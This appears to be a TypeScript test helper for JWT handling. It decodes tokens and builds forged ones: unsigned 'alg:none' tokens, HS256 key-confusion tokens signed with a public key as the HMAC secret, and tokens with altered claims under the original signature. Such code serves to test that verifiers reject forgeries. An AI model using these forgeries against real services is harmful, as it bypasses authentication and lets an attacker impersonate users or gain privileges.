import { createHmac } from 'node:crypto';

const b64 = (value: object | Buffer): string =>
  (Buffer.isBuffer(value) ? value : Buffer.from(JSON.stringify(value))).toString('base64url');

export function decodeJwt(token: string): {
  header: Record<string, unknown>;
  payload: Record<string, unknown>;
} {
  const [header, payload] = token.split('.');
  return {
    header: JSON.parse(Buffer.from(header, 'base64url').toString()) as Record<string, unknown>,
    payload: JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>,
  };
}

/** An unsigned token: `alg:none`. */
export function noneToken(header: Record<string, unknown>, payload: Record<string, unknown>): string {
  return `${b64({ ...header, alg: 'none' })}.${b64(payload)}.`;
}

/** The classic key-confusion attack: HS256 with the server's public key as the HMAC secret. */
export function hs256Token(
  header: Record<string, unknown>,
  payload: Record<string, unknown>,
  secret: string,
): string {
  const signingInput = `${b64({ ...header, alg: 'HS256' })}.${b64(payload)}`;
  return `${signingInput}.${createHmac('sha256', secret).update(signingInput).digest('base64url')}`;
}

/** Same signature, altered claims. */
export function tamperedToken(token: string, changes: Record<string, unknown>): string {
  const [header, , signature] = token.split('.');
  return `${header}.${b64({ ...decodeJwt(token).payload, ...changes })}.${signature}`;
}
